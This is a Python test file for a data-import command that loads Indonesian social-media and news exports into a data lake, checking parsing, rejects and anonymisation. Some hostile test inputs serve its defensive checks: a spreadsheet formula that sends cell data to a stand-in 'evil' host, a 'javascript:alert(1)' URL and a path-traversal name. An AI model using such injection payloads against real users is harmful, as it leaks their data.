"""``citra import``: encodings, delimiters, dates, people, bad rows; the same file replaces itself."""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from citra.cli.main import cli
from citra.documents import Partition, document_from_json, document_id
from citra.errors import ConfigError, InputError
from citra.lake import Lake
from citra.verbs.importing import ImportReport, import_file
from crawlers.exports.column_map import ColumnMap, load_preset, preset_names, read_map

NOW = datetime(2026, 11, 24, 7, 30, tzinfo=UTC)
SALT = "garam yang panjang"
GENERIC = load_preset("generic")
TEXT = "Antre KTP di dinas lama sekali, warga menunggu sejak pagi"


@pytest.fixture
def lake(tmp_path: Path) -> Lake:
    return Lake(str(tmp_path / "lake"))


def table(*rows: list[str], delimiter: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return out.getvalue()


def put(lake: Lake, content: str | bytes, name: str = "ekspor.csv", **options: Any) -> ImportReport:
    file = Path(lake.root).parent / name
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    defaults: dict[str, Any] = {"source": "ekspor", "now": NOW, "salt": SALT}
    return import_file(str(file), lake.root, options.pop("columns", GENERIC), **(defaults | options))


def documents(lake: Lake) -> list[dict[str, Any]]:
    return [one for part in lake.partitions("documents") for one in lake.read("documents", part)]


def rejects(lake: Lake) -> dict[str, str]:
    """Row number → reason."""
    found = [one for part in lake.partitions("rejects") for one in lake.read("rejects", part, "extract")]
    assert all(one["stage"] == "extract" and one["source"] == "ekspor" for one in found)
    return {one["locator"].rpartition(":")[2]: one["reason"] for one in found}


def test_a_row_becomes_a_document(lake: Lake) -> None:
    rows = [
        ["id", "username", "text", "url", "created_at", "like_count", "lang", "platform"],
        ["1720000000000000001", "budi_s99", TEXT, "https://twitter.com/budi_s99/status/1720000000000000001",
         "2023-11-02 08:15", "1.200", "in", "Twitter"],
    ]  # fmt: skip
    report = put(lake, table(*rows))
    assert (report.rows, report.documents, dict(report.rejects)) == (1, 1, {})
    [one] = documents(lake)
    assert one["id"] == document_id("x:", "1720000000000000001")  # as the spider of X calls it
    assert one["published"] == "2023-11-02T08:15:00+07:00"
    assert one["published_raw"] == "2023-11-02 08:15"
    assert one["author"].startswith("anon:")
    assert one["url"] == "https://x.com/i/status/1720000000000000001"
    assert (one["kind"], one["title"], one["engagement"], one["language"]) == ("social", "", {"likes": 1200}, "id")
    assert document_from_json(one).fetched == NOW


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_encodings_and_delimiters(lake: Lake, encoding: str, delimiter: str) -> None:
    text = f"{TEXT}; caf\xe9 di Jl. S\xf6derberg, \u201cramah\u201d"
    content = table(["tanggal", "isi"], ["2/11/2023", text], ["3/11/2023", text + "\nbaris kedua"], delimiter=delimiter)
    put(lake, content.encode(encoding))
    assert [one["text"] for one in documents(lake)] == [text, text + "\nbaris kedua"]
    assert documents(lake)[0]["published"] == "2023-11-02T00:00:00+07:00"


def test_lines_before_the_header_and_packed_files(lake: Lake) -> None:
    content = "Report:,Pemantauan ASN\r\nBrand:,BKN\r\n\r\n" + table(
        ["Date", "Full Text"], ["2023-11-02", TEXT], ["x", TEXT]
    )
    put(lake, gzip.compress(content.encode()), name="a.csv.gz", columns=load_preset("brandwatch"))
    assert len(documents(lake)) == 1
    assert rejects(lake) == {"6": "bad-date"}  # as a spreadsheet counts its rows


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Kamis 02 November 2023 08:15 WIB", "2023-11-02T08:15:00+07:00"),
        ("2 Nop 2023, 10.15 WIT", "2023-11-02T08:15:00+07:00"),
        ("2023-11-02T01:15:00Z", "2023-11-02T08:15:00+07:00"),
        ("2023-11-02 08:15:00.0", "2023-11-02T08:15:00+07:00"),
        ("Thu Nov 02 01:15:00 +0000 2023", "2023-11-02T08:15:00+07:00"),
        ("Thu, 02 Nov 2023 01:15:00 GMT", "2023-11-02T08:15:00+07:00"),
        ("11/2/2023 8:15 AM", "2023-02-11T08:15:00+07:00"),
        ("1698887700", "2023-11-02T08:15:00+07:00"),
        ("1698887700000", "2023-11-02T08:15:00+07:00"),
        ("45232.34375", "2023-11-02T08:15:00+07:00"),
        ("45232", "2023-11-02T00:00:00+07:00"),
    ],
)
def test_dates_in_many_forms(lake: Lake, raw: str, expected: str) -> None:
    put(lake, table(["date", "text"], [raw, TEXT]))
    assert [one["published"] for one in documents(lake)] == [expected], rejects(lake)


def test_dates_by_the_rules_of_a_map(lake: Lake) -> None:
    columns = ColumnMap.model_validate(
        {"columns": {"text": "text", "published": "day", "time": "clock"}, "month_first": True, "zone": "UTC"}
    )
    put(lake, table(["day", "clock", "text"], ["11/2/2023", "01:15", TEXT]), columns=columns)
    assert documents(lake)[0]["published"] == "2023-11-02T08:15:00+07:00"


def test_bad_rows_are_rejects_with_their_number_and_the_rest_goes_on(lake: Lake) -> None:
    rows = [
        ["id", "date", "text", "likes", "url"],
        ["1", "2023-11-02", TEXT, "5", ""],
        ["2", "kapan-kapan", TEXT, "", ""],
        ["3", "2023-11-02", " \u2014 ", "", ""],
        ["4", "2023-11-02", TEXT, "banyak", ""],
        ["5", "2023-11-02", TEXT, "", "", "lebih"],
        ["1.72E+18", "2023-11-02", TEXT, "", ""],
        ["7", "2031-01-01", TEXT, "", ""],
        ["8", "2023-11-02", TEXT, "", "javascript:alert(1)"],
        ["1", "2023-11-02", TEXT + " lagi", "5", ""],
        ["1", "2023-11-02", TEXT, "5", ""],
        [],
        ["9", "2023-11-02"],
        ["10", "", TEXT + " sepuluh", "", ""],
    ]
    report = put(lake, table(*rows))
    assert rejects(lake) == {
        "3": "bad-date", "4": "no-text", "5": "bad-count", "6": "bad-row", "7": "mangled-id", "8": "bad-date",
        "9": "bad-url", "10": "duplicate-id", "13": "no-text",
    }  # fmt: skip
    assert (report.rows, report.documents, report.repeated, report.undated) == (12, 2, 1, 1)
    assert sum(report.rejects.values()) + report.documents + report.repeated == report.rows


def test_a_few_broken_bytes_cost_their_rows_only(lake: Lake) -> None:
    lines = [f'2023-11-02,"{TEXT} caf\xe9 nomor {n}"\n'.encode() for n in range(20)]
    lines[7] = lines[7].replace("\xe9".encode(), b"\xff")
    put(lake, b"date,text\n" + b"".join(lines))
    assert rejects(lake) == {"9": "bad-encoding"}
    assert len(documents(lake)) == 19
    assert "caf\xe9" in documents(lake)[0]["text"]


def test_formulas_are_never_computed(lake: Lake) -> None:
    rows = [
        ["id", "date", "text", "url"],
        ['="0012"', "2023-11-02", TEXT, '=HYPERLINK("https://contoh.id/a/1";"buka")'],
        ["2", "2023-11-02", "'=2+2 kata petugas di loket pelayanan", ""],
        ["3", "2023-11-02", '=HYPERLINK("http://jahat.contoh/?x="&A1;"klik")', ""],
    ]
    put(lake, table(*rows))
    found = {one["text"]: one for one in documents(lake)}
    assert found[TEXT]["id"] == document_id("ekspor", "0012")
    assert found[TEXT]["url"] == "https://contoh.id/a/1"
    assert "=2+2 kata petugas di loket pelayanan" in found
    assert any(text.startswith("=HYPERLINK") for text in found)


def test_no_handle_of_a_private_person_is_stored(lake: Lake) -> None:
    rows = [
        ["id", "username", "full_name", "text", "url", "date", "parent_id"],
        ["1", "@BudiSantoso77", "Budi Santoso", f"{TEXT} @sari.k dan budisantoso77 t.me/budisantoso77",
         "https://www.facebook.com/BudiSantoso77/posts/123?user=budisantoso77", "2023-11-02", "77"],
        ["2", "budisantoso77", "", f"{TEXT}, tulis rahmat@kantor.contoh", "https://tiktok.com/@BudiSantoso77/video/5"],
        ["3", "budisantoso77", "", "", "", "", ""],
        ["4", "budisantoso77", "", TEXT, "", "bukan tanggal", ""],
        ["5", "budisantoso77", "", TEXT, "nirguna://budisantoso77", "", "", "budisantoso77"],
    ]  # fmt: skip
    put(lake, table(*rows))
    first, second = documents(lake)
    assert first["author"] == second["author"]
    assert first["url"] == f"https://www.facebook.com/{first['author']}/posts/123"
    assert second["url"] == f"https://tiktok.com/{first['author']}/video/5"
    assert first["thread_id"] == document_id("ekspor", "77")
    stored = b"".join(
        gzip.decompress(file.read_bytes()) if file.suffix == ".gz" else file.read_bytes()
        for file in Path(lake.root).rglob("*")
        if file.is_file()
    ).lower()
    for private in (b"budisantoso77", b"budi santoso", b"sari.k", b"rahmat@"):
        assert private not in stored
    assert rejects(lake) == {"4": "no-text", "5": "bad-date", "6": "bad-row"}


def test_news_keep_their_byline_and_need_no_salt(lake: Lake) -> None:
    url = "https://www.warta.contoh/read/1?utm_source=x"
    row = ["Bupati &amp; Pegawai", f"<p>{TEXT}</p><p>Dua.</p>", "Sari Kusuma", url, "2 Nov 2023"]
    rows = [["judul", "isi", "penulis", "tautan", "tanggal"], row]
    put(lake, table(*rows), kind="news", salt=None)
    [one] = documents(lake)
    assert (one["title"], one["text"], one["author"]) == ("Bupati & Pegawai", f"{TEXT}\nDua.", "Sari Kusuma")
    assert one["canonical_url"] == "https://www.warta.contoh/read/1"
    assert one["id"] == document_id("ekspor", one["canonical_url"])
    with pytest.raises(ConfigError, match="CITRA_SALT"):
        put(lake, table(*rows), salt=None)


def test_kinds_by_row(lake: Lake) -> None:
    rows = [["text", "author", "media type"], [TEXT, "Sari Kusuma", "Online News"], [TEXT + "!", "budi", "Twitter"]]
    put(lake, table(*rows))
    news, post = documents(lake)
    assert (news["kind"], news["author"]) == ("news", "Sari Kusuma")
    assert post["kind"] == "social"
    assert post["author"].startswith("anon:")


def test_json_lines(lake: Lake) -> None:
    long = 1720000000000000123
    lines = [
        {"id": long, "text": TEXT, "author": {"username": "budi99"}, "public_metrics": {"like_count": 7},
         "created_at": "2023-11-02T01:15:00.000Z"},
        {"id": 2, "text": TEXT + " \ud800", "created_at": None},
    ]  # fmt: skip
    content = "\n".join([json.dumps(lines[0]), "{bad", "[1]", "", json.dumps(lines[1]), '"x"']) + "\n"
    report = put(lake, content, name="a.jsonl")
    first, second = documents(lake)
    assert first["id"] == document_id("ekspor", str(long))
    assert (first["engagement"], first["published"]) == ({"likes": 7}, "2023-11-02T08:15:00+07:00")
    assert first["author"].startswith("anon:")
    assert second["text"].startswith(TEXT)
    assert rejects(lake) == {"2": "bad-json", "3": "bad-json", "6": "bad-json"}
    assert report.undated == 1


def test_the_same_file_replaces_itself_and_another_stands_beside_it(lake: Lake) -> None:
    rows = [["id", "date", "text"], *([str(n), "2023-11-02", f"{TEXT} {n}"] for n in range(25))]
    first = put(lake, table(*rows), chunk=10)
    assert first.partitions == ("ekspor/2026-11-24/07", "ekspor/2026-11-24/06", "ekspor/2026-11-24/05")
    before = documents(lake)
    again = put(lake, table(*rows), chunk=10, name="nama-lain.csv", now=NOW + timedelta(days=2))
    assert again.is_repeat
    assert again.partitions == first.partitions
    assert [{**one, "fetched": ""} for one in documents(lake)] == [{**one, "fetched": ""} for one in before]
    other = put(lake, table(*rows[:3]), chunk=10)
    assert other.partitions == ("ekspor/2026-11-24/04",)
    assert len(documents(lake)) == 27
    columns = ColumnMap.model_validate({"columns": {"text": "text", "id": "date"}})  # a map that takes fewer rows
    fewer = put(lake, table(*rows), columns=columns, chunk=100)
    assert fewer.partitions == first.partitions
    assert len(documents(lake)) == 1 + 2


def test_a_killed_import_is_completed(lake: Lake, monkeypatch: pytest.MonkeyPatch) -> None:
    content = table(["id", "date", "text"], *([str(n), "2023-11-02", f"{TEXT} {n}"] for n in range(30)))
    write = Lake.write
    calls = []

    def dying(self: Lake, area: Any, *rest: Any, **named: Any) -> int:
        calls.append(area)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return write(self, area, *rest, **named)

    with monkeypatch.context() as patch:
        patch.setattr(Lake, "write", dying)
        with pytest.raises(KeyboardInterrupt):
            put(lake, content, chunk=10)
    assert put(lake, table(["text"], [TEXT]), name="b.csv").partitions == ("ekspor/2026-11-24/04",)
    put(lake, content, chunk=10)
    ids = [one["id"] for one in documents(lake)]
    assert len(ids) == len(set(ids)) == 31


def test_wrong_uses_are_told_in_a_line(lake: Lake, tmp_path: Path) -> None:
    good = table(["text"], [TEXT])
    for content, word in {
        "a,b\n1,2\n": "none of the map's columns", "": "is empty", "id,date\n1,2\n": "no column for text",
        '[{"text": "x"}]': "JSON array", b"PK\x03\x04xlsx": "save it as CSV",
    }.items():  # fmt: skip
        with pytest.raises(InputError, match=word):
            put(lake, content)
    with pytest.raises(InputError, match="cannot be read"):
        import_file(str(tmp_path / "none.csv"), lake.root, GENERIC, source="x", now=NOW, salt=SALT)
    with pytest.raises(InputError, match="no such encoding"):
        put(lake, good, encoding="utf-99")
    with pytest.raises(ConfigError, match="kompas-import"):
        put(lake, good, source="kompas", crawled=frozenset({"kompas"}))
    for name in ("../x", "Besar", "", "-a"):
        with pytest.raises(ConfigError, match="--source"):
            put(lake, good, source=name)
    assert not documents(lake)


def test_maps_are_checked(tmp_path: Path) -> None:
    file = tmp_path / "peta.toml"
    for content, word in {
        '[columns]\ntext = "a"\nauthr = "b"': "did you mean 'author'",
        'zone = "Asia/Bogor"\n[columns]\ntext = "a"': "no time zone",
        "[columns]\nid = 'a'": "columns.text",
        "nonsense": "cannot be read",
    }.items():
        file.write_text(content)
        with pytest.raises(ConfigError, match=word):
            read_map(file)
    with pytest.raises(ConfigError, match="did you mean 'brandwatch'"):
        load_preset("brandwach")
    for name in preset_names():
        assert load_preset(name).columns.text
        assert load_preset(name).note
        assert not load_preset(name).verified


def test_rows_stream_through_bounded_partitions(lake: Lake, monkeypatch: pytest.MonkeyPatch) -> None:
    chance, words = random.Random(1), TEXT.replace(",", "").split()
    file = Path(lake.root).parent / "besar.csv"
    with file.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "username", "date", "text"])
        for n in range(6_000):
            chance.shuffle(words)
            writer.writerow([n, f"orang{n % 500}", "2023-11-02 08:15", " ".join(words)])
    told: list[int] = []
    held: list[int] = []
    write = Lake.write

    def counted(self: Lake, area: Any, partition: Any, records: Any, *rest: Any) -> int:
        held.append(len(records))  # a list: what is in memory at once
        assert told[-1] <= sum(held) <= told[-1] + 1_000  # nothing was read ahead
        return write(self, area, partition, records, *rest)

    monkeypatch.setattr(Lake, "write", counted)
    report = import_file(
        str(file), lake.root, GENERIC, source="ekspor", now=NOW, salt=SALT, chunk=2_500, progress=told.append
    )
    assert report.documents == 6_000
    assert held == [2_500, 2_500, 1_000]
    assert told == list(range(1_000, 6_001, 1_000))


def test_command(tmp_path: Path) -> None:
    file = tmp_path / "a.csv"
    file.write_text(table(["id", "date", "text", "warna"], ["1", "2023-11-02", TEXT, "biru"], ["2", "x", TEXT, ""]))
    command = ["import", str(file), "--source", "ekspor", "--lake", str(tmp_path / "lake")]
    result = CliRunner().invoke(cli, [*command, "--json"], env={"CITRA_SALT": SALT})
    assert result.exit_code == 3, result.output
    report = json.loads(result.stdout)
    assert (report["documents"], report["rejects"], report["unused"]) == (1, {"bad-date": 1}, ["warna"])
    shown = CliRunner().invoke(cli, command, env={"CITRA_SALT": SALT})
    assert "replaces itself" in shown.stdout
    assert "columns not used: warna" in shown.stderr
    bare = CliRunner().invoke(cli, command, env={"CITRA_SALT": ""})
    assert isinstance(bare.exception, ConfigError)
    assert "citra import mentions.csv" in CliRunner().invoke(cli, ["import", "--help"]).output
    lake = Lake(str(tmp_path / "lake"))
    assert list(lake.read("documents", Partition.from_key(report["partitions"][0])))
